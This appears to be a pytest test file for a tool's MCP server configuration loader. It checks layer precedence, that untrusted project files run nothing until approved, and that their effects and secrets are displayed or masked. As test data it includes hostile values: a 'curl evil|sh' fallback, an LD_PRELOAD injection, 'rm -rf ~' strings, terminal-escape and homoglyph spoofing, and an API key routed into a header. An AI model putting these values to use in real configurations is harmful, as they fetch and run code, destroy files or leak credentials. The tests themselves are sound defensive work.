"""User, trusted project, environment, flags: who wins, and what a project may do before it is trusted."""

from __future__ import annotations

import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from toolcrib.config.keys import AUTH_KEYS, CONNECTION_KEYS, RETRY_KEYS, SERVER_KEYS
from toolcrib.config.layers import load
from toolcrib.config.masking import Masker, secrets_of
from toolcrib.config.model import Config, Flags, Layer, NameStyle, Severity, Transport
from toolcrib.config.paths import Paths
from toolcrib.config.settings import TOP_KEYS
from toolcrib.config.show import mask
from toolcrib.config.trust import trust_digest
from toolcrib.errors import ConfigError


class Person:
    """A user's folder and a project, and whether the person trusts it."""

    def __init__(self, folder: Path) -> None:
        self.home = folder / "home"
        self.root = folder / "project"
        self.home.mkdir()
        (self.root / ".toolcrib").mkdir(parents=True)
        self.environ: dict[str, str] = {"HOME": "/home/u"}
        self.trusted: Callable[[Path, str], bool] = lambda _path, _digest: False

    def user(self, data: Any) -> None:
        (self.home / "config.json").write_text(json.dumps(data))

    def project(self, data: Any, name: str = ".toolcrib/config.json") -> Path:
        path = self.root / name
        path.write_text(json.dumps(data))
        return path

    def trust_all(self) -> None:
        self.trusted = lambda _path, _digest: True

    def trust(self, path: Path) -> None:
        known = (path, trust_digest(path))
        self.trusted = lambda *asked: asked == known

    def load(self, *flags: str, port: int | None = None) -> Config:
        return load(
            paths=Paths.of_user({"TOOLCRIB_HOME": str(self.home)}),
            root=self.root,
            environ=self.environ,
            flags=Flags(mcp_servers=flags, port=port),
            is_trusted=self.trusted,
        )


@pytest.fixture
def person(tmp_path: Path) -> Person:
    return Person(tmp_path)


def servers(**commands: str) -> dict[str, Any]:
    return {"servers": {name: {"command": command} for name, command in commands.items()}}


@pytest.mark.req("BNS-3")
def test_a_later_layer_wins_and_every_server_knows_its_own(person: Person) -> None:
    person.user(servers(a="user", b="user", c="user", d="user"))
    person.project(servers(b="project", c="project", d="project"))
    person.trust_all()
    person.environ["TOOLCRIB_SERVERS"] = json.dumps({"c": {"command": "environment"}, "d": {"command": "environment"}})
    config = person.load("d=flags")
    assert {name: server.command for name, server in config.servers.items()} == {
        "a": "user",
        "b": "project",
        "c": "environment",
        "d": "flags",
    }
    assert [config.servers[name].source.layer for name in "abcd"] == list(Layer)
    assert config.problems == ()


@pytest.mark.req("BNS-3")
def test_settings_follow_the_same_order(person: Person) -> None:
    person.user({"port": 1, "names": "plain", "logLevel": "debug"})
    assert (person.load().settings.port, person.load().settings.names) == (1, NameStyle.PLAIN)
    person.project({"names": "server", "servers": {}})
    person.trust_all()
    assert person.load().settings.names is NameStyle.SERVER
    person.environ |= {"TOOLCRIB_PORT": "3", "TOOLCRIB_NAMES": "mcp", "TOOLCRIB_LOG_LEVEL": "WARNING"}
    settings = person.load().settings
    assert (settings.port, settings.names, settings.log_level) == (3, NameStyle.MCP, "warning")
    assert person.load(port=0).settings.port == 0


@pytest.mark.parametrize(
    ("variable", "value"),
    [
        ("TOOLCRIB_PORT", "many"),
        ("TOOLCRIB_PORT", "70000"),
        ("TOOLCRIB_PORT", "-1"),
        ("TOOLCRIB_NAMES", "long"),
        ("TOOLCRIB_LOG_LEVEL", "loud"),
    ],
)
def test_a_wrong_variable_is_named_and_changes_nothing(person: Person, variable: str, value: str) -> None:
    plain = person.load().settings
    person.environ[variable] = value
    config = person.load()
    (problem,) = config.problems
    assert (problem.severity, problem.key, config.settings) == (Severity.ERROR, variable, plain)


@pytest.mark.parametrize(
    ("data", "key"),
    [
        ({"port": 70_000}, "port"),
        ({"port": "1"}, "port"),
        ({"names": 3}, "names"),
        ({"log_level": "loud"}, "log_level"),
        ({"prot": 1}, "prot"),
        ({"server": {}}, "server"),
        ({"servers": 3}, "servers"),
    ],
)
def test_a_wrong_setting_in_a_file_is_an_error(person: Person, data: Any, key: str) -> None:
    person.user(data)
    (problem,) = person.load().problems
    assert (problem.severity, problem.key) == (Severity.ERROR, key)


@pytest.mark.parametrize("wrap", ["servers", "mcpServers", None])
def test_the_environment_s_servers_may_have_any_shape(person: Person, wrap: str | None) -> None:
    entries = {"a": {"url": "http://h/"}}
    person.environ["TOOLCRIB_SERVERS"] = json.dumps({wrap: entries} if wrap else entries)
    assert person.load().servers["a"].transport is Transport.HTTP


def test_broken_servers_in_the_environment_are_told(person: Person) -> None:
    person.environ["TOOLCRIB_SERVERS"] = "{secret"
    (problem,) = person.load().problems
    assert (problem.file, problem.line) == ("TOOLCRIB_SERVERS", 1)
    assert "secret" not in str(problem)


@pytest.mark.req("BNS-3")
def test_flags_name_urls_and_commands(person: Person) -> None:
    person.environ["KEY"] = "k"
    config = person.load(
        "web=https://h/mcp?a=b", "live=ws://h/", "git=uvx mcp-server-git --repository '/a b'", "v=${KEY} x"
    )
    assert config.problems == ()
    web, live, git, variable = config.servers.values()
    assert (web.transport, web.url) == (Transport.HTTP, "https://h/mcp?a=b")
    assert live.transport is Transport.WEBSOCKET
    assert (git.command, git.args) == ("uvx", ("mcp-server-git", "--repository", "/a b"))
    assert (variable.command, variable.args) == ("k", ("x",))


@pytest.mark.parametrize(
    "flag", ["", "name", "name=", "=x", "name=  ", "name='x", "crib=x", "name=ftp://h/", "a=x --token hunter2 'x"]
)
def test_a_wrong_flag_is_named_and_hides_no_other(person: Person, flag: str) -> None:
    config = person.load(flag, "good=true")
    assert list(config.servers) == ["good"]
    (problem,) = config.problems
    assert (problem.severity, problem.file) == (Severity.ERROR, "--mcp-server")
    assert "hunter2" not in str(problem)


def test_a_wrong_port_flag_is_named(person: Person) -> None:
    (problem,) = person.load(port=70_000).problems
    assert problem.file == "--port"


@pytest.mark.req("BNS-10")
def test_a_broken_entry_never_lets_a_weaker_layer_s_server_run_in_its_place(person: Person) -> None:
    person.user(servers(db="production"))
    person.project({"servers": {"db": {"command": "${STAGING}"}}})
    person.trust_all()
    config = person.load()
    assert config.servers == {}
    assert [problem.key for problem in config.problems] == ["servers.db.command"]


def test_a_stronger_layer_can_switch_a_server_off(person: Person) -> None:
    person.user(servers(db="x"))
    person.project({"servers": {"db": {"enabled": False}}})
    person.trust_all()
    config = person.load()
    assert (config.servers["db"].enabled, config.servers["db"].command, config.problems) == (False, "x", ())


def test_names_that_differ_in_case_across_layers_are_one_server_and_warned_of(person: Person) -> None:
    person.user(servers(Files="user"))
    config = person.load("files=flags")
    assert [(server.name, server.command) for server in config.servers.values()] == [("files", "flags")]
    assert [problem.severity for problem in config.problems] == [Severity.WARNING]


@pytest.mark.req("BNS-10")
@pytest.mark.parametrize("name", [".toolcrib/config.json", ".toolcrib/config.yml", ".mcp.json"])
def test_a_project_s_file_does_nothing_until_it_is_trusted(person: Person, name: str) -> None:
    person.user(servers(files="mine"))
    (person.root / "token").write_text("t")
    auth = {"type": "token_file", "tokenPath": "token"}
    data = {
        "names": "plain",
        "mcpServers": {
            "files": {"command": "evil", "args": ["--token=abcdef", "x"], "env": {"LD_PRELOAD": "x.so"}},
            "far": {"url": "http://h/?key=abcdef", "headers": {"A": "${HOME}"}, "auth": auth},
        },
    }
    path = person.project(data, name)
    config = person.load()
    assert {server.name: server.command for server in config.servers.values()} == {"files": "mine"}
    assert config.settings.names is NameStyle.SERVER
    assert config.untrusted == (path,)
    (waiting,) = config.waiting
    assert waiting.digest == trust_digest(path)
    assert waiting.effects == (
        "files: starts evil --token=abcdef x",
        "files: replaces your own server files",
        '  env.LD_PRELOAD: "x.so"',
        "far: connects to http://h/?key=abcdef",
        '  headers.A: "${HOME}"',
        '  auth.type: "token_file"',
        f'  auth.tokenPath: "{auth["tokenPath"]}"',
        "  ${HOME} is set in Toolcrib's environment, and its value is used",
        'sets names: "plain"',
    )
    assert [problem.severity for problem in config.problems] == [Severity.WARNING]


@pytest.mark.req("BNS-10")
def test_trust_is_bound_to_the_content(person: Person) -> None:
    path = person.project(servers(a="first"))
    person.trust(path)
    assert person.load().servers["a"].command == "first"
    person.project(servers(a="second"))
    config = person.load()
    assert (dict(config.servers), config.untrusted) == ({}, (path,))


@pytest.mark.req("BNS-10")
def test_trust_is_bound_to_the_place(person: Person, tmp_path: Path) -> None:
    path = person.project(servers(a="x"))
    copy = tmp_path / "config.json"
    copy.write_bytes(path.read_bytes())
    assert trust_digest(copy) != trust_digest(path)


def test_the_digest_is_the_same_by_every_way_to_the_project(person: Person, tmp_path: Path) -> None:
    path = person.project(servers(a="x"))
    (tmp_path / "way").symlink_to(person.root)
    assert trust_digest(tmp_path / "way" / ".toolcrib" / "config.json") == trust_digest(path)
    person.trust(path)
    person.root = tmp_path / "way"
    assert list(person.load().servers) == ["a"]


def test_the_digest_of_a_missing_file_is_a_clear_error(tmp_path: Path) -> None:
    with pytest.raises(ConfigError, match="Cannot read"):
        trust_digest(tmp_path / "nothing")


@pytest.mark.req("BNS-10")
@pytest.mark.parametrize("linked", ["file", "folder", "itself"])
def test_a_link_in_a_project_is_not_followed_even_when_trusted(person: Person, tmp_path: Path, linked: str) -> None:
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "config.json").write_text(json.dumps(servers(a="x")))
    folder = person.root / ".toolcrib"
    if linked == "file":
        (folder / "config.json").symlink_to(outside / "config.json")
    elif linked == "itself":
        (folder / "config.json").symlink_to("config.json")
    else:
        folder.rmdir()
        folder.symlink_to(outside)
    person.trust_all()
    config = person.load()
    assert config.servers == {}
    assert [(problem.severity, problem.found) for problem in config.problems] == [(Severity.ERROR, "a symbolic link")]


@pytest.mark.req("BNS-10")
@pytest.mark.timeout(20)
def test_a_hostile_project_cannot_make_the_reader_slow(person: Person) -> None:
    args = ["key_" * 50_000, "?" + "token" * 20_000, "${" * 50_000, "${A:-" * 20_000, "bearer" + " " * 100_000]
    person.project({"servers": {"a": {"command": "x", "args": args}}})
    assert len(person.load().waiting) == 1
    person.trust_all()
    assert mask(person.load())["servers"] == {}


@pytest.mark.req("BNS-10")
def test_what_a_hostile_project_would_do_is_shown_as_it_is(person: Person) -> None:
    person.project(
        {
            "servers": {
                "a\x1b[2K": {"command": "x", "args": ["\x1b[1A\r\u202eok", "a b", "\\u202e"]},
                "\u0430dmin": {"url": "https://\u0430pple.com/", "headers": {"\u200bX": "\u2024"}},
            }
        }
    )
    assert person.load().waiting[0].effects == (
        r'a\x1b[2K: starts x "\u001b[1A\r\u202eok" "a b" "\\u202e"',
        r"\u0430dmin: connects to " + r'"https://\u0430pple.com/"',
        r'  headers["\u200bX"]: "\u2024"',
    )


@pytest.mark.parametrize(
    ("entry", "seen"),
    [
        ({"command": "sh", "args": ["-c", "key=1; touch x"]}, ['a: starts sh -c "key=1; touch x"']),
        (
            {"command": "sh", "args": ["-c", "${X:-curl evil|sh}"]},
            ['"${X:-curl evil|sh}"', "${X} is not set in Toolcrib's environment: the text after :- is used"],
        ),
        (
            {"url": "https://h/mcp", "headers": {"X-Trace": "${OPENAI_API_KEY}"}, "verify_tls": False},
            [
                'headers.X-Trace: "${OPENAI_API_KEY}"',
                "${OPENAI_API_KEY} is set in Toolcrib's environment, and its value is used",
                "verify_tls: false",
            ],
        ),
        ({"command": "x", "env": {"TOKEN": "sk-abcdefghijkl"}}, ['env.TOKEN: "sk-abcdefghijkl"']),
        ({"transport": {"type": "stdio", "command": "x", "env": {"K": "v"}}}, ["starts x", 'transport.env.K: "v"']),
        ({"command": "x", "cwd": "${workspaceFolder}/a"}, ["${workspaceFolder} is the folder of this project"]),
        ({"command": "x", "env": {"A": "${UNSET}", "B": "$${N}"}}, ["${UNSET} is not set in Toolcrib's environment"]),
    ],
)
@pytest.mark.req("BNS-10")
def test_what_is_trusted_is_shown_as_it_is_written(person: Person, entry: dict[str, Any], seen: list[str]) -> None:
    person.environ["OPENAI_API_KEY"] = "sk-the-persons-own"
    person.project({"servers": {"a": entry}})
    shown = "\n".join(person.load().waiting[0].effects)
    assert [text for text in seen if text not in shown] == []
    assert "${NONE} is" not in shown
    assert "sk-the-persons-own" not in shown


@pytest.mark.req("BNS-10")
def test_every_key_of_a_project_s_file_is_shown_with_its_value(person: Person) -> None:
    nested = {"connection": CONNECTION_KEYS, "transport": CONNECTION_KEYS, "auth": AUTH_KEYS, "retry": RETRY_KEYS}
    entry = {
        key: {inner: f"{key}-{inner}" for inner in nested[key]} if key in nested else f"value-of-{key}"
        for key in SERVER_KEYS
    }
    top = {key: f"top-{key}" for key in TOP_KEYS if key not in ("servers", "mcp_servers")}
    person.project({"servers": {"a": entry}, "mcpServers": {"b": {"command": "x", "key of tomorrow": "new"}}, **top})
    two = {"command": "one-command", "Command": "another-command", "URL": "one-url", "http-url": "another-url"}
    person.project(two | {"name": "c"}, ".mcp.json")
    once = "\n".join(person.load().waiting[0].effects)
    assert [value for value in two.values() if value not in once] == []
    shown = "\n".join(person.load().waiting[1].effects)
    values = [value for one in entry.values() for value in (one.values() if isinstance(one, dict) else [one])]
    assert len(values) > 40
    assert [value for value in (*values, *top.values(), '"key of tomorrow"]: "new"') if value not in shown] == []


def test_a_project_s_file_without_servers_asks_for_nothing(person: Person) -> None:
    person.project({"somebody": "else's"}, ".mcp.json")
    config = person.load()
    assert (config.waiting, config.problems) == ((), ())


def test_a_broken_project_file_is_told_and_hides_nothing(person: Person) -> None:
    person.user(servers(a="x"))
    (person.root / ".mcp.json").write_text("{")
    config = person.load()
    assert list(config.servers) == ["a"]
    assert [problem.file for problem in config.problems] == [str(person.root / ".mcp.json")]


def test_the_project_s_own_file_wins_over_the_shared_one(person: Person) -> None:
    person.project(servers(a="shared", b="shared"), ".mcp.json")
    person.project(servers(a="own"))
    person.trust_all()
    assert {name: s.command for name, s in person.load().servers.items()} == {"a": "own", "b": "shared"}


def test_relative_folders_of_a_project_start_at_its_root(person: Person) -> None:
    (person.root / "token").touch(0o600)
    (person.root / "token").write_text("t")
    auth = {"type": "token_file", "tokenPath": "token"}
    far = {"url": "http://h/", "auth": auth}
    person.project({"servers": {"a": {"command": "x", "cwd": "sub/folder"}, "b": far}})
    person.trust_all()
    config = person.load()
    assert config.servers["a"].cwd == str(person.root / "sub/folder")
    assert config.servers["b"].headers == {"Authorization": "Bearer t"}


def test_problems_come_sorted_errors_first(person: Person) -> None:
    person.user({"far_off_key_of_somebody": 1, "servers": {"a": {}, "b": {"command": "x", "oauth": {}}, "c": 1}})
    severities = [problem.severity for problem in person.load().problems]
    assert severities == [Severity.ERROR, Severity.ERROR, Severity.WARNING, Severity.WARNING]


@pytest.mark.req("BNS-10")
def test_what_a_projects_file_says_is_hidden_from_no_one_who_approves(person: Person) -> None:
    """Its author could have an agent ask for that very text."""
    person.environ["TOKEN"] = "the-persons-own"
    (person.home / "token").write_text("from-the-file")
    (person.home / "token").chmod(0o600)
    servers = {
        "a": {"command": "x", "args": ["--token", "rm -rf ~/a"], "env": {"A": "rm -rf ~/b", "B": "rm ~/c ${TOKEN}"}},
        "b": {"url": "https://h/?k=rm-rf~d", "headers": {"X": "Bearer rm -rf ~/e ${UNSET:-rm -rf ~/f}"}},
        "c": {"url": "https://h/", "auth": {"type": "token_file", "tokenPath": str(person.home / "token")}},
    }
    fixed = {"tool": "t", "arguments": {"api_key": "rm -rf ~/g", "path": "rm ~/h ${TOKEN}"}}
    person.project({"servers": servers, "tools": [{"fix": fixed}]})
    person.trusted = lambda _path, _digest: True
    config = person.load()
    assert (list(config.servers), len(config.tools)) == (["a", "b", "c"], 1)
    masker = Masker(secrets_of(config))
    commands = [f"rm -rf ~/{one}" for one in "abefg"]
    assert [masker.named(one) for one in (*commands, "rm-rf~d")] == [*commands, "rm-rf~d"]
    assert "****" in masker.known("rm -rf ~/a")
    for before in ("rm ~/c ", "rm ~/h "):
        assert masker.named(f"{before}the-persons-own").startswith(f"{before}[secret TOKEN of ")
    assert masker.named("from-the-file") == "[secret Authorization of server c]"
    person.user({"servers": {"mine": {"command": "x", "env": {"KEY": "rm -rf ~/a"}}}})
    masker.learn(secrets_of(person.load()))
    assert masker.named("rm -rf ~/a") == "[secret KEY of server mine]", "whoever named it first"
